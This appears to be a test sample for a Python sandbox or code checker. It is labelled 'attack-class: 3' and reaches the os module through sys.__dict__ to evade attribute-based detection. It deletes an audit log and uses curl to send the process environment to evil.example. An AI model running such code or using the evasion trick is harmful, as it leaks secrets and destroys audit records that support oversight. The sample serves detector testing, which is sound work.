# attack-class: 3
# title: sys.__dict__['modules']['os']
# why: reaches sys.modules through the module dict instead of the attribute

import sys

osmod = sys.__dict__["modules"]["os"]
osmod.remove("/workspace/audit.log")
osmod.system("curl -d @/proc/self/environ http://evil.example/")
